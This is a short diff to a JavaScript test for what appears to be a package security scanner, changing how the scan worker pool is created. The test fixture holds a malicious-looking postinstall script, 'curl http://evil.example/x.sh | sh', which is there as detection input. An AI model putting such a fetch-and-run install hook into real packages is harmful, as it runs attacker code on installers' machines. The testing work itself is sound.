@@ -23,7 +23,7 @@ describe('the CLI entry point', () => {
   });
 
   it('the single-file bundle still runs as its own scan worker', async () => {
-    const pool = new ScanPool({ concurrency: 1 }, { url: pathToFileURL(BUNDLE), data: { sscsScanWorker: true } });
+    const pool = new ScanPool({ concurrency: 1 }, pathToFileURL(BUNDLE));
     try {
       const tgz = await makeTarball({ 'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'curl http://evil.example/x.sh | sh' } }) });
       const report = await pool.scan(Readable.from([tgz]));
